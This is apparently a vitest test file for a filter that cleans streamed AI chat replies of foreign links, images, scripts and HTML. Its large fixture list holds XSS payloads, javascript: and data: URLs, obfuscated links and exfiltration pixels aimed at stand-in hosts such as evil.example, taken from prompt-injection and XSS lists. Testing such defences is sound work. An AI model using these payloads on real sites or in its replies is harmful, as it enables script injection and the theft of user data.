import MarkdownIt from 'markdown-it'
import { expect, test } from 'vitest'
import { hostileReplies } from '../../../../../test/hostileReplies.ts'
import { createAllowedLinks } from './allowedLinks.server.ts'
import { createReplyFilter } from './replyFilter.server.ts'

function createFilter() {
  const links = createAllowedLinks('https://network.example')
  links.add('https://otter.example/')
  return createReplyFilter(links)
}

/** Filters a text that arrives in pieces of this size. */
function filterInPieces(text: string, size: number) {
  const { push, end } = createFilter()
  let output = ''
  for (let position = 0; position < text.length; position += size) output += push(text.slice(position, position + size))
  return output + end()
}

/** The most permissive renderer: it passes HTML through and links everything that looks like a URL. */
const permissiveRenderer = new MarkdownIt({ html: true, linkify: true, breaks: true })

const allowedHref = /^(\/(?!\/)|https:\/\/(otter|network)\.example(\/|$))/
/** Returns the forbidden links, loaded resources and scripts in a rendered text. */
function findDangers(html: string) {
  const attributes = [...html.matchAll(/<[a-z][^>]*?\s([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi)]
  return [
    ...attributes
      .map(([, name = '', value = '']) => [name.toLowerCase(), value.replace(/^["']|["']$/g, '')] as const)
      .filter(([name, value]) => !(name === 'href' && allowedHref.test(value)) && !['class', 'start'].includes(name))
      .map(([name, value]) => `${name}=${value}`),
    ...[
      ...html.matchAll(/<(?:script|img|iframe|svg|math|style|link|meta|base|form|input|object|embed|video|audio)\b/gi),
    ],
  ]
}

// From the XSS and prompt injection lists of OWASP, PortSwigger, garak and Embrace the Red.
const hostile = [
  '[click](https://evil.example)',
  '[click]( <https://evil.example> "title" )',
  '[click](https://evil.example/?q=(a(b)c))',
  '[click](//evil.example)',
  '[click](/\\evil.example)',
  '[click](\\/\\/evil.example)',
  '[click](https:evil.example)',
  '[click](https://network.example@evil.example)',
  '[click](https://network.example.evil.example)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javas&#99;ript:alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox(1))',
  '[click](mailto:evil@evil.example)',
  '[click][1]\n\n[1]: https://evil.example',
  '[click][]\n\n[click]: <https://evil.example> "x"',
  '[click]\n\n[click]:\nhttps://evil.example',
  '> [click][1]\n\n> [1]: https://evil.example',
  '[a\nb]\n\n[a\nb]: https://evil.example',
  '[a `]` b](https://evil.example)',
  '[a \\](https://evil.example)',
  '[a [b](https://evil.example) c](/jobs)',
  '[![x](https://evil.example/p.png)](/jobs)',
  '[a](b [c](https://evil.example)',
  '`\\`[x](https://evil.example)',
  '`a\\`[x](https://evil.example)',
  '\\\\[x](https://evil.example)',
  '![pixel](https://evil.example/p.png?q=secret)',
  '![pixel](/api/auth/logout)',
  '![pixel][1]\n\n[1]: https://evil.example/p.png',
  '!\\[x](https://evil.example)',
  '!<img>[x](/jobs)',
  'https://evil.example/steal',
  'HTTPS://EVIL.EXAMPLE',
  'www.evil.com',
  'evil.com',
  'see evil.com/path, or //evil.com',
  'ftp://evil.com',
  'evil@evil.com',
  'ht<img>tps://evil.com',
  'evil.<a>com',
  'evil[.](x)com evil[.](https://x.example)com',
  'https&#58;//evil.com',
  'evil&#46;com',
  'https://otter.example.evil.com',
  'https://otter.example@evil.com',
  '<https://evil.example>',
  '<javascript:alert(1)>',
  '<mailto:a@evil.com>',
  '<a href="https://evil.example">click</a>',
  '<a href=https://evil.example>click</a>',
  "<A HREF='//evil.example'>click</A>",
  '<a href="java&#115;cript:alert(1)">click</a>',
  '<a title=">" href="https://evil.example">click</a>',
  '<a href="/jobs" onclick="alert(1)" style="background:url(https://evil.example)">click</a>',
  '<a\nhref="https://evil.example"\n>click</a>',
  '<a href="/jobs&quot; onmouseover=alert(1) x=&quot;">click</a>',
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></ScRiPt>',
  '<<script>alert(1)//<</script>',
  '<<img>img src=x onerror=alert(1)>',
  '<<b>script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png"',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src=//evil.example>',
  '<form action="https://evil.example"><button>Log in</button></form>',
  '<input type=image src=//evil.example onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<style>@import "https://evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video poster=//evil.example></video><audio src=//evil.example></audio>',
  '<table background="//evil.example"><tr><td>x</td></tr></table>',
  '<div>\n\\<img src=//evil.example>\n</div>',
  '<pre>\n<img src=//evil.example>\n</pre>',
  '<!-- --><img src=//evil.example>',
  '<!--><img src=//evil.example>-->',
  '<![CDATA[<img src=//evil.example>]]>',
  '<?php <img src=//evil.example> ?>',
  '</p><img src=//evil.example>',
  '```\n</code></pre><img src=//evil.example>\n```',
  '`<img src=//evil.example>`',
  '    <img src=//evil.example>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x onclick=alert(1)>x</x>',
  `[${'a'.repeat(3000)}](https://evil.example)`,
  `<a ${'x '.repeat(2000)} href="https://evil.example">click</a>`,
  `https://evil.example/${'a'.repeat(3000)}`,
  `${'['.repeat(200)}x${'](https://evil.example)'.repeat(200)}`,
  `${'<a '.repeat(200)}href="https://evil.example">x</a>`,
]

test.each(hostile)('neutralizes %s', (text) => {
  const filtered = filterInPieces(text, text.length)
  expect(findDangers(permissiveRenderer.render(filtered)), filtered).toEqual([])
  for (const size of text.length < 400 ? [1, 2, 3, 7] : [50]) expect(filterInPieces(text, size)).toBe(filtered)
  // The same texts within other texts.
  for (const [before, after] of [
    ['See [Jobs](/jobs): ', ' and more.'],
    ['- ', '\n- https://otter.example'],
    ['**', '**'],
    ['> ', ''],
    ['[', '](/jobs)'],
    ['<b>', '</b>'],
    ['a`', '`'],
    ['\\', '\\'],
    ['!', '!'],
  ]) {
    const surrounded = filterInPieces(`${before}${text}${after}`, 5)
    expect(findDangers(permissiveRenderer.render(surrounded)), surrounded).toEqual([])
  }
})

test('neutralizes two consecutive hostile texts', () => {
  const shortTexts = hostile.filter((text) => text.length < 100)
  for (const first of shortTexts) {
    for (const second of shortTexts) {
      const filtered = filterInPieces(`${first}${second}`, 11)
      expect(findDangers(permissiveRenderer.render(filtered)), `${first}${second}\n${filtered}`).toEqual([])
    }
  }
})

test.each([
  ['Plain words, e.g. 3.5 > 2 & 1 < 2!', undefined],
  ['**Bold**, *soft*, `code` and\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | [x](/jobs) |', undefined],
  [
    '[Jobs](/jobs?search=cook&job_type=Contract), [one](/jobs/1 "title")!',
    '[Jobs](/jobs?search=cook&job_type=Contract), [one](/jobs/1)!',
  ],
  ['[Jobs](https://network.example/jobs#top)', '[Jobs](/jobs#top)'],
  [
    '[Otter](http://otter.example), otter.example, https://otter.example/.',
    '[Otter](https://otter.example/), otter.example, https://otter.example/.',
  ],
  ['<a href="/jobs" target="_blank">Jobs</a> <b>now</b><br/>', '<a href="/jobs">Jobs</a> <b>now</b><br>'],
  ['[ ] to do, [x] done, [note] and [1]', undefined],
  ['[click](https://evil.example) here', 'click here'],
  ['![A boat](https://evil.example/p.png) here', 'A boat here'],
])('filters %s', (text, expected = text) => {
  for (const size of [1, 4, text.length]) expect(filterInPieces(text, size)).toBe(expected)
})

test.each([
  ['sentences that leave no markup open', ['One. ', 'Two [x](/jobs). ', 'Three **a. b** c. ', 'Four.']],
  ['paragraphs', ['No sentence\n\n', 'A *bold. one*\n\n', 'Last']],
  ['items of a list', ['- one\n', '- two, with more\n', '  and more\n', '- three']],
  ['headings', ['# Head\n', 'Text']],
  ['whole fences', ['```\na. b\n\nc\n```\n', 'Text. ', 'More']],
  ['whole tables', ['| a. b | c |\n|---|---|\n| d. e | f |\n\n', 'Text']],
])('passes on %s as soon as they are finished', (_, parts) => {
  const { push, end } = createFilter()
  const sent: string[] = []
  for (const char of parts.join('')) {
    const added = push(char)
    if (added !== '') sent.push(added)
  }
  const whole = sent.join('') + end()
  expect(whole).toBe(parts.join(''))
  // A part is sent together with the first characters of the next part, which show that it has ended.
  expect(sent.length).toBeGreaterThanOrEqual(parts.length - 2)
  expect(sent[0]).toBe(parts[0])
})

test('holds back only the last sentence of a paragraph', () => {
  const { push } = createFilter()
  const sentence = 'This is one of very many sentences of the same paragraph. '
  expect(push(sentence.repeat(20)).length).toBe(sentence.length * 19)
})

test.each(hostileReplies)('the output for %s contains no script, image, style or foreign link', (text) => {
  const filtered = filterInPieces(text, 3)
  expect(findDangers(permissiveRenderer.render(filtered)), filtered).toEqual([])
})

test.each([
  ['a letter of another alphabet', '[Otter](https://\u043etter.example)'],
  ['a letter of full width', '[Otter](https://\uff4ftter.example)'],
  ['an invisible character', '[Otter](https://otter\u200b.example)'],
  ['another port', '[Otter](https://otter.example:8443)'],
  ['a subdomain', '[Otter](https://login.otter.example)'],
  ['a path that no tool returned', '[Otter](https://otter.example/login)'],
  ['another scheme', '[Otter](ftp://otter.example)'],
])('removes a link that differs from a returned one by %s', (_, text) => {
  expect(filterInPieces(text, text.length)).toBe('Otter')
})

test('breaks a label that looks like another address', () => {
  const filtered = filterInPieces('[https://bank.example](/jobs)', 5)
  expect(filtered).toContain('](/jobs)')
  expect(filtered).not.toContain('bank.example')
})

test('cuts an endless reply', () => {
  const { push, end } = createFilter()
  let length = 0
  for (let count = 0; count < 1000; count++)
    length += push('[x](https://evil.example) and more words. '.repeat(25)).length
  expect(length + end().length).toBeLessThan(20_000)
})
